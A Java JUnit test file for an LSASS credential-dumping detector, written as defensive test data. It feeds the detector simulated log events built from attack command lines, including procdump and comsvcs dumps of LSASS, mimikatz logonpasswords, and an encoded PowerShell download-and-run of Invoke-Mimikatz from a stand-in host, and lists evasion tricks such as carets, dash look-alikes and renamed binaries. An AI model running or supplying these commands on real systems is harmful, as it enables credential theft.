package org.sysmontriage.detect;

import static org.sysmontriage.detect.LsassTechniqueTableTest.LSASS;
import static org.sysmontriage.detect.LsassTechniqueTableTest.PLAIN_TRACE;
import static org.sysmontriage.detect.LsassTechniqueTableTest.access;
import static org.sysmontriage.detect.LsassTechniqueTableTest.attack;
import static org.sysmontriage.detect.LsassTechniqueTableTest.benign;
import static org.sysmontriage.detect.LsassTechniqueTableTest.lsassStart;
import static org.sysmontriage.detect.LsassTechniqueTableTest.notepadStart;
import static org.sysmontriage.detect.LsassTechniqueTableTest.selfLoad;
import static org.sysmontriage.detect.LsassTechniqueTableTest.start;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.sysmontriage.detect.TestEvents.security;
import static org.sysmontriage.detect.TestEvents.sysmon;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.sysmontriage.detect.LsassTechniqueTableTest.Case;
import org.sysmontriage.event.EventDraft;

/**
 * Issue 11 as a red team plays it: every technique of {@link LsassTechniqueTableTest} again, with the
 * details an adversary changes (renamed binaries that keep their OriginalFileName, quoting, carets,
 * case, dash look-alikes, environment variables, 8.3 names, forward slashes, ordinal and PID
 * spellings, encoded PowerShell, logs where only one channel saw it), and the benign look-alikes of
 * SigmaHQ's filters and false-positive notes. Attacks: a T1003.001 hit at risk >= 50 on the last
 * event; look-alikes: below 50, every low hit with its reason.
 */
class LsassVariantBatteryTest {
  static final String RUNDLL = "C:\\Windows\\System32\\rundll32.exe";
  static final String PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
  static final String CMD = "C:\\Windows\\System32\\cmd.exe";
  static final String REG = "C:\\Windows\\System32\\reg.exe";
  static final String IFEO = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\lsass.exe";
  static final String SPE = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\lsass.exe";
  static final String T1 = LsassTechniqueTableTest.T1;

  static EventDraft channel(String channel, String provider, int id, String... fields) {
    EventDraft d = sysmon(id, fields);
    d.channel = channel;
    d.provider = provider;
    return d;
  }

  static EventDraft script(String text) {
    return channel("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, "MessageNumber", "1",
        "MessageTotal", "1", "ScriptBlockText", text, "ScriptBlockId", "{0c1e2d3f-0000-0000-0000-000000000001}", "Path", "");
  }

  /** Part {@code n} of a script block PowerShell logged in {@code total} parts. */
  static EventDraft scriptPart(int n, int total, String text) {
    return channel("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, "MessageNumber", Integer.toString(n),
        "MessageTotal", Integer.toString(total), "ScriptBlockText", text, "ScriptBlockId", "{0c1e2d3f-0000-0000-0000-000000000002}", "Path", "");
  }

  static EventDraft defender(int id, String threat) {
    return channel("Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", id, "Threat Name", threat,
        "Path", "file:_C:\\Users\\Public\\x.exe", "Process Name", "C:\\Windows\\explorer.exe");
  }

  static EventDraft service(String name, String path) {
    return channel("System", "Service Control Manager", 7045, "ServiceName", name, "ImagePath", path, "ServiceType",
        "kernel mode driver", "StartType", "demand start", "AccountName", "");
  }

  static EventDraft regSet(String key, String details) {
    return sysmon(13, "UtcTime", T1, "Image", "C:\\Users\\Public\\x.exe", "TargetObject", key, "Details", details);
  }

  static EventDraft security4688(String image, String cmd) {
    return security(4688, "NewProcessName", image, "CommandLine", cmd, "NewProcessId", "0x1388", "ProcessId", "0x44");
  }

  /** PowerShell's -EncodedCommand: base64 of the script's UTF-16LE bytes. */
  static String encoded(String script) {
    return Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
  }

  static Stream<Case> battery() {
    return Stream.of(
        // --- process access: rights as bits, spellings, look-alike names, odd paths
        attack("0x1010 zero-padded to eight digits", access("C:\\Users\\Public\\m.exe", "0x00001010", PLAIN_TRACE)),
        attack("0X1410 with an upper-case X", access("C:\\Users\\Public\\m.exe", "0X1410", PLAIN_TRACE)),
        attack("0x1438 (handle duplication dumper)", access("C:\\Users\\Public\\m.exe", "0x1438", PLAIN_TRACE)),
        attack("0x143A", access("C:\\Users\\Public\\m.exe", "0x143A", PLAIN_TRACE)),
        attack("0x1F3FFF", access("C:\\Users\\Public\\m.exe", "0x1F3FFF", PLAIN_TRACE)),
        attack("0x1fffff, TargetImage upper case", sysmon(10, "UtcTime", T1, "SourceImage", "C:\\Users\\Public\\m.exe", "TargetImage",
            "C:\\WINDOWS\\SYSTEM32\\LSASS.EXE", "GrantedAccess", "0x1fffff", "CallTrace", PLAIN_TRACE)),
        attack("0x1fffff, TargetImage with forward slashes", sysmon(10, "UtcTime", T1, "SourceImage", "C:\\Users\\Public\\m.exe",
            "TargetImage", "C:/Windows/System32/lsass.exe", "GrantedAccess", "0x1fffff", "CallTrace", PLAIN_TRACE)),
        attack("MsMpEng.exe look-alike in a user folder", access("C:\\Users\\Public\\MsMpEng.exe", "0x1fffff", PLAIN_TRACE)),
        attack("Procmon64.exe in Program Files signed by someone else", selfLoad("C:\\Program Files\\Sysinternals\\Procmon64.exe",
            "Evil Corp", "procmon64.exe"), access("C:\\Program Files\\Sysinternals\\Procmon64.exe", "0x1fffff", PLAIN_TRACE)),
        attack("taskmgr.exe copied to Temp, dbghelp on the stack", access("C:\\Users\\bob\\AppData\\Local\\Temp\\taskmgr.exe",
            "0x1fffff", "C:\\Windows\\SYSTEM32\\dbghelp.dll+1|C:\\Users\\bob\\AppData\\Local\\Temp\\taskmgr.exe+2")),
        attack("0x40 duplicate handle only (handle-duplication dumper)", access("C:\\ProgramData\\h.exe", "0x0040", PLAIN_TRACE)),
        attack("MalSecLogon: svchost (seclogon) duplicates an LSASS handle, 0x14c0", access("C:\\Windows\\System32\\svchost.exe",
            "0x14c0", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|c:\\windows\\system32\\seclogon.dll+1e6e"
                + "|C:\\Windows\\System32\\RPCRT4.dll+76953")),
        attack("Security 4656 only, 0x1010, device path", security(4656, "ObjectType", "Process", "ObjectName",
            "\\Device\\HarddiskVolume3\\Windows\\System32\\lsass.exe", "AccessMask", "0x1010", "ProcessName",
            "C:\\Users\\Public\\m.exe", "ProcessId", "0x1a2c")),
        // --- procdump
        attack("procdump -accepteula -ma lsass.exe", start("C:\\Tools\\procdump.exe", "procdump.exe -accepteula -ma lsass.exe C:\\t\\l.dmp")),
        attack("\"pro\"cdump quoting in the program name, -ma LSASS", start("C:\\Tools\\procdump64.exe", "\"pro\"cdump64 -ma LSASS x.dmp")),
        attack("PROCDUMP64.EXE /MA upper case", start("C:\\Tools\\PROCDUMP64.EXE", "PROCDUMP64.EXE /MA LSASS.EXE X.DMP")),
        attack("procdump -mm by PID", lsassStart(), start("C:\\Tools\\procdump.exe", "procdump.exe -mm 624 m.dmp")),
        attack("procdump -mp by PID", lsassStart(), start("C:\\Tools\\procdump.exe", "procdump.exe -mp 624 m.dmp")),
        attack("procdump -r (clone, no count) -ma by PID", lsassStart(), start("C:\\Tools\\procdump.exe", "procdump.exe -r -ma 624 c.dmp")),
        attack("procdump -accepteula after the target", lsassStart(), start("C:\\Tools\\procdump.exe", "procdump.exe -ma 624 x.dmp -accepteula")),
        attack("procdump PID with leading zeros", lsassStart(), start("C:\\Tools\\procdump.exe", "procdump.exe -ma 00624 x.dmp")),
        attack("procdump PID in hex", lsassStart(), start("C:\\Tools\\procdump.exe", "procdump.exe -ma 0x270 x.dmp")),
        attack("renamed procdump, horizontal-bar dash U+2015", lsassStart(), start("C:\\Users\\Public\\svc.exe",
            "svc.exe \u2015accepteula \u2015ma 624 C:\\t\\x.dmp", "OriginalFileName", "procdump")),
        attack("procdump by forward-slash path", start("C:\\Tools\\procdump64.exe", "C:/Tools/procdump64.exe -ma lsass.exe C:/t/x.dmp")),
        attack("procdump by an environment-variable path", lsassStart(), start("C:\\Users\\bob\\AppData\\Local\\Temp\\procdump64.exe",
            "%TEMP%\\procdump64.exe -ma 624 %TEMP%\\x.dmp")),
        attack("procdump by its 8.3 short name from cmd /c", lsassStart(), start(CMD, "cmd.exe /c C:\\PROGRA~1\\SYSINT~1\\PROCDU~1.EXE -ma 624 C:\\t\\x.dmp")),
        attack("procdump doubled quotes around the target", start("C:\\Tools\\procdump.exe", "procdump.exe -ma \"\"lsass.exe\"\" x.dmp")),
        attack("procdump -ma with the dump file before the switches", lsassStart(), start("C:\\Tools\\procdump.exe",
            "procdump.exe -accepteula -ma 624 -n 1 C:\\t\\x.dmp")),
        // --- comsvcs
        attack("comsvcs MiniDump with a space and no comma", lsassStart(), start(RUNDLL, "rundll32.exe comsvcs.dll MiniDump 624 C:\\t\\x.dmp full")),
        attack("comsvcs #+24", lsassStart(), start(RUNDLL, "rundll32 C:\\windows\\system32\\comsvcs.dll,#+24 624 x.dmp full")),
        attack("comsvcs #-4294967272", lsassStart(), start(RUNDLL, "rundll32 comsvcs.dll,#-4294967272 624 x.dmp full")),
        attack("comsvcs everything quoted, PID quoted", lsassStart(), start(RUNDLL,
            "\"C:\\Windows\\System32\\rundll32.exe\" \"C:\\Windows\\System32\\comsvcs.dll\" MiniDump \"624\" \"C:\\t\\x.dmp\" full")),
        attack("comsvcs by forward-slash path", lsassStart(), start(RUNDLL, "rundll32.exe C:/Windows/System32/comsvcs.dll,MiniDump 624 C:/t/x.dmp full")),
        attack("comsvcs by %windir% and upper case MINIDUMP", lsassStart(), start(RUNDLL,
            "rundll32.exe %windir%\\System32\\COMSVCS.DLL, MINIDUMP 624 x.dmp full")),
        attack("renamed rundll32 (OriginalFileName RUNDLL32.EXE)", lsassStart(), start("C:\\Users\\Public\\r.exe",
            "r.exe comsvcs.dll,#24 624 x.dmp full", "OriginalFileName", "RUNDLL32.EXE")),
        attack("comsvcs from cmd /c with carets", lsassStart(), start(CMD, "cmd /c r^undll32 c^omsvcs.dll,Mini^Dump 624 x.dmp full")),
        attack("comsvcs PID with leading zeros", lsassStart(), start(RUNDLL, "rundll32 comsvcs.dll,MiniDump 0624 x.dmp full")),
        attack("comsvcs from PowerShell with a variable set from Get-Process lsass", start(PS,
            "powershell -c \"$p=Get-Process lsass; rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump $p.Id C:\\t\\x.dmp full\"")),
        attack("comsvcs inside powershell -EncodedCommand", lsassStart(), start(PS,
            "powershell.exe -nop -w hidden -EncodedCommand " + encoded("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t\\x.dmp full"))),
        attack("procdump inside powershell -enc (abbreviated switch)", lsassStart(), start(PS,
            "powershell -enc " + encoded("& C:\\Tools\\procdump64.exe -accepteula -ma 624 C:\\t\\x.dmp"))),
        attack("Invoke-Mimikatz inside powershell -e", start(PS, "powershell.exe -e " + encoded("IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1'); Invoke-Mimikatz -DumpCreds"))),
        // --- other dumpers
        attack("createdump --full, renamed (OriginalFileName FX_VER_INTERNALNAME_STR)", lsassStart(), start("C:\\Users\\Public\\cd.exe",
            "cd.exe --full -f C:\\t\\x.dmp 624", "OriginalFileName", "FX_VER_INTERNALNAME_STR")),
        attack("rdrleakdiag -p with dashes and /memdmp", lsassStart(), start("C:\\Windows\\System32\\rdrleakdiag.exe",
            "rdrleakdiag.exe -p 624 -o C:\\t /memdmp")),
        attack("rdrleakdiag renamed (OriginalFileName RdrLeakDiag.exe)", lsassStart(), start("C:\\Users\\Public\\rl.exe",
            "rl.exe /p 624 /o C:\\t /fullmemdmp /wait 1", "OriginalFileName", "RdrLeakDiag.exe")),
        attack("SqlDumper renamed (OriginalFileName SQLDumper.exe)", lsassStart(), start("C:\\Users\\Public\\sd.exe",
            "sd.exe 624 0 0x0110", "OriginalFileName", "SQLDumper.exe")),
        attack("DumpMinitool.arm64 --processId", lsassStart(), start("C:\\VS\\DumpMinitool.arm64.exe",
            "DumpMinitool.arm64.exe --file C:\\t\\x.dmp --processId 624 --dumpType Full")),
        attack("dotnet-dump collect --process-id", lsassStart(), start("C:\\Users\\a\\.dotnet\\tools\\dotnet-dump.exe",
            "dotnet-dump collect --process-id 624 -o C:\\t\\x.dmp")),
        attack("tttracer -attach with -dumpFull after it", lsassStart(), start("C:\\Windows\\System32\\tttracer.exe", "tttracer.exe -attach 624 -dumpFull")),
        attack("WerFault Shtinkering, switches reordered", lsassStart(), start("C:\\Windows\\System32\\WerFault.exe",
            "WerFault.exe -ip 1112 -s 244 -u -p 624")),
        attack("WerFaultSecure /pid (EDR-freeze, PPLBlade-style dump)", lsassStart(), start("C:\\Windows\\System32\\WerFaultSecure.exe",
            "WerFaultSecure.exe /h /pid 624 /tid 700 /file 1234 /encfile 1236 /cancel 1240 /type 268310")),
        // --- credential tools by command line
        attack("mimikatz renamed, sekurlsa in mixed case", start("C:\\Users\\Public\\m.exe", "m.exe \"privilege::debug\" \"SEKURLSA::LogonPasswords\" exit")),
        attack("mimikatz from cmd /c with carets", start(CMD, "cmd /c m.exe \"privilege::debug\" sek^urlsa::logonpasswords exit")),
        attack("nanodump renamed: --write and --valid", start("C:\\Users\\Public\\n.exe", "n.exe --write C:\\Windows\\Temp\\report.docx --valid")),
        attack("HandleKatz loader", start("C:\\Users\\Public\\loader.exe", "loader.exe --pid:624 --outfile:C:\\t\\x.obf")),
        attack("PPLdump renamed, LSASS by name", start("C:\\Users\\Public\\p.exe", "p.exe -v lsass.exe C:\\t\\l.dmp", "OriginalFileName", "PPLdump.exe")),
        attack("PPLBlade --mode dump", start("C:\\Users\\Public\\b.exe", "b.exe --mode dump --name lsass.exe --obfuscate")),
        // --- registry and other logs
        attack("SilentProcessExit by reg add, -v windash and LSASS.EXE upper case", start(REG,
            "reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\LSASS.EXE\" -v ReportingMode -t REG_DWORD -d 2")),
        attack("SilentProcessExit LocalDumpFolder (registry)", regSet(SPE + "\\LocalDumpFolder", "C:\\t")),
        attack("IFEO GlobalFlag 0x300 (0x200 with another flag), value without Sysmon's DWORD wrapper", regSet(IFEO + "\\GlobalFlag", "0x00000300")),
        attack("PowerShell 4104: Invoke-Mimikatz in odd case", script("iNvOkE-mImIkAtZ -DumpCreds")),
        attack("PowerShell 4104: MiniDumpWriteDump by reflection on Get-Process lsass", script(
            "$m=[PSObject].Assembly.GetType('System.Management.Automation.WindowsErrorReporting');"
                + "$n=$m.GetNestedType('NativeMethods','NonPublic');$f=$n.GetMethod('MiniDumpWriteDump',[Reflection.BindingFlags]'NonPublic, Static');"
                + "$p=Get-Process lsass")),
        attack("PowerShell 4104: Invoke-Mimikatz split by string concatenation", script("& ('Invoke-Mimi'+'katz') -DumpCreds")),
        attack("PowerShell 4104: Invoke-Mimikatz with backtick escapes", script("Invoke-Mimi`katz -Du`mpCreds")),
        attack("PowerShell 4104 logged in two parts, Invoke-Mimikatz cut at the seam", scriptPart(1, 2, "function Get-Stuff { 'x' }\n"
            + "$a = 1\nInvoke-Mimi"), scriptPart(2, 2, "katz -DumpCreds\n$b = 2")),
        attack("Defender 1116: HackTool:Win32/Mikatz", defender(1116, "HackTool:Win32/Mikatz!dha")),
        attack("Defender 1117: Behavior:Win32/LsassDump.A", defender(1117, "Behavior:Win32/LsassDump.A")),
        attack("System 7045: mimidrv under another service name", service("kdrv", "\\??\\C:\\Users\\Public\\MIMIDRV.SYS")),
        attack("System 7045: RTCore64 (PPL killer driver)", service("RTCore64", "C:\\Users\\Public\\RTCore64.sys")),
        attack("Security 4688 only: comsvcs by PID (hex PIDs in 4688)", security(4688, "NewProcessName", LSASS, "NewProcessId", "0x270"),
            security4688(RUNDLL, "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t\\x.dmp full")),

        // --- benign look-alikes
        benign("procdump of w3wp by name", start("C:\\Tools\\procdump.exe", "procdump.exe -ma w3wp.exe C:\\t\\w.dmp")),
        benign("procdump of a PID no event identifies", start("C:\\Tools\\procdump.exe", "procdump.exe -ma 9124 C:\\t\\w.dmp")),
        benign("comsvcs ordinal #25 of LSASS's PID (not MiniDump)", lsassStart(), start(RUNDLL, "rundll32 comsvcs.dll,#25 624 x.dmp full")),
        benign("comsvcs MiniDump of notepad by PID, notepad started in the logs", lsassStart(), notepadStart(), start(RUNDLL,
            "rundll32.exe comsvcs.dll,MiniDump 4242 C:\\t\\n.dmp full")),
        benign("createdump of a .NET app", lsassStart(), notepadStart(), start("C:\\Program Files\\dotnet\\shared\\Microsoft.NETCore.App\\6.0.0\\createdump.exe",
            "createdump.exe -f C:\\t\\app.dmp 4242")),
        benign("dotnet-dump of a .NET app", lsassStart(), notepadStart(), start("C:\\Users\\a\\.dotnet\\tools\\dotnet-dump.exe", "dotnet-dump collect -p 4242")),
        benign("SqlDumper of sqlservr (PID 4242)", lsassStart(), notepadStart(), start("C:\\Program Files\\Microsoft SQL Server\\90\\Shared\\SQLDumper.exe",
            "SQLDumper.exe 4242 0 0x0110")),
        benign("tttracer -attach to notepad", lsassStart(), notepadStart(), start("C:\\Windows\\System32\\tttracer.exe", "tttracer.exe -attach 4242")),
        benign("genuine LSASS crash: WerFault -u -p LSASS -s, slashes", lsassStart(), start("C:\\Windows\\System32\\WerFault.exe",
            "C:\\Windows\\system32\\WerFault.exe /u /p 624 /s 1020", "ParentImage", LSASS, "ParentProcessId", "624")),
        benign("WmiPrvSE 0x1410 at its path", access("C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "0x1410", PLAIN_TRACE)),
        benign("MsSense (Defender for Endpoint), signed", selfLoad("C:\\Program Files\\Windows Defender Advanced Threat Protection\\MsSense.exe",
            "Microsoft Windows Publisher", "MsSense.exe"), access("C:\\Program Files\\Windows Defender Advanced Threat Protection\\MsSense.exe",
            "0x1fffff", PLAIN_TRACE)),
        benign("Process Explorer signed in Program Files, 0x1fffff", selfLoad("C:\\Program Files\\Sysinternals\\procexp64.exe",
            "Microsoft Corporation", "procexp64.exe"), access("C:\\Program Files\\Sysinternals\\procexp64.exe", "0x1fffff", PLAIN_TRACE)),
        benign("VMware Tools 0x1000 (query only)", access("C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe", "0x1000", PLAIN_TRACE)),
        benign("svchost terminate + query (0x1001)", access("C:\\Windows\\System32\\svchost.exe", "0x1001", PLAIN_TRACE)),
        benign("LSA AuditLevel hardening in upper case, -v windash", start(REG,
            "reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\LSASS.EXE\" -v AuditLevel -t REG_DWORD -d 8")),
        benign("WER LocalDumps for a backup agent", regSet("HKLM\\SOFTWARE\\Microsoft\\Windows\\Windows Error Reporting\\LocalDumps\\backupagent.exe\\DumpType",
            "DWORD (0x00000002)")),
        benign("a script block in two parts with nothing at the seam", scriptPart(1, 2, "function Get-Stuff { 'Invoke-Mimi' }"),
            scriptPart(2, 2, "Write-Host 'done'")),
        benign("Get-Process lsass alone in a script block", script("Get-Process lsass | Select-Object Id, StartTime")),
        benign("tasklist for lsass", start("C:\\Windows\\System32\\tasklist.exe", "tasklist /fi \"imagename eq lsass.exe\"")),
        benign("a notes file named after mimikatz opened in notepad", start("C:\\Windows\\System32\\notepad.exe",
            "notepad.exe C:\\Users\\bob\\Documents\\mimikatz-detection-notes.txt")),
        benign("powershell -EncodedCommand of Get-Date", start(PS, "powershell.exe -EncodedCommand " + encoded("Get-Date | Out-File C:\\t\\d.txt"))),
        benign("Defender 1116: EICAR test file", defender(1116, "Virus:DOS/EICAR_Test_File")),
        benign("System 7045: an ordinary driver", service("vmci", "System32\\drivers\\vmci.sys")),
        benign("SSP key read-only style value: Security Packages with Windows' own packages", regSet(
            "HKLM\\System\\CurrentControlSet\\Control\\Lsa\\OSConfig\\Security Packages", "kerberos msv1_0 schannel wdigest tspkg pku2u")),
        benign("Task Manager at its path, 0x1410, no dump", access("C:\\Windows\\System32\\Taskmgr.exe", "0x1410", PLAIN_TRACE)));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("battery")
  void variantHitsAtFiftyAndLookalikesStayBelow(Case c) {
    LsassTechniqueTableTest.assertCase(c);
  }

  @Test
  void theBatteryHoldsAtLeastFiftyAttacksAndTwentyLookalikes() {
    long attacks = battery().filter(c -> c.expect() == LsassTechniqueTableTest.Expect.ATTACK).count();
    long lookalikes = battery().filter(c -> c.expect() == LsassTechniqueTableTest.Expect.BENIGN).count();
    assertTrue(attacks >= 50 && lookalikes >= 20, attacks + " attacks, " + lookalikes + " look-alikes");
  }
}
